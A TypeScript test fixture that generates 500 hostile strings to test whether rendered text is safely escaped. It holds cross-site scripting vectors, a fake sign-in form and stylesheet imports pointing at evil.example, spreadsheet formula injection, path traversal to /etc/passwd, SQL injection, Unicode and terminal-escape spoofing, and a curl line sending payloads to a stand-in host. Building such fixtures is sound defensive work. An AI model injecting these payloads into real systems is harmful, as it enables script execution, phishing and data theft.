/* What attackers write where a person reads it later. Each executes, breaks out or hides something where it is let. */

/** Sets this in the page that lets it. */
export const trap = "strayedInto";

const run = `window.${trap}=1`;

const bases: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<iframe srcdoc="<script>parent.${trap}=1</script>">`,
  `<iframe src="javascript:parent.${trap}=1">`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<body onload=${run}>`,
  `<style>*{display:none!important}</style>`,
  `<style>@import "http://evil.example/x.css";</style>`,
  `<link rel=stylesheet href="http://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<base href="http://evil.example/">`,
  `<form action="http://evil.example/"><button>Sign in</button></form>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `\${${run}}{{${run}}}<%= ${run} %>#{${run}}`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `' onmouseover='${run}`,
  `" autofocus onfocus="${run}`,
  `\`${run}\``,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\u202e<script>${run}</script>\u202c`,
  "evil\u202egpj.exe",
  "\u2066\u2067\u2068 isolated \u2069 left open \u2067",
  "zero\u200bwidth\u200d\u2060\ufeff\u00adjoined",
  "\u0000\u0001\u0007\b\u001b[2J\u001b[31mred\u001b]0;title\u0007",
  "line\nbreak\r\nand\ttab\u2028\u2029\u0085end",
  "\ud800 half \udc00 pairs \ufffe\uffff",
  "Z\u0351\u036b\u0343\u036a\u0302\u036b".repeat(60),
  "x".repeat(4_000),
  "\u4e00".repeat(3_000),
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}".repeat(200),
  `${"<div>".repeat(300)}deep`,
  "</td></tr></table></main></body></html>",
  "</title></textarea></style></script></pre></code>",
  "=cmd|' /C calc'!A0",
  "../../../../etc/passwd",
  "'; DROP TABLE runs; --",
];

const wrappers: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `</code></pre></td>${text}`,
  (text) => `"/>${text}<"`,
  (text) => `--></script></style></title>${text}`,
  (text) => `\u202e${text}`,
  (text) => `a ${text} ${text}`,
  (text) => `${text.toUpperCase().replaceAll(run.toUpperCase(), run)} upper`,
  (text) => `${text.replaceAll("<", "<\u0000").replaceAll(" ", "\u000c")} split`,
  (text) => `curl https://x.example/?q=${text}#${text}`,
];

/** 500 of them. */
export const hostilePayloads: readonly string[] = wrappers.flatMap((wrap) => bases.map(wrap));
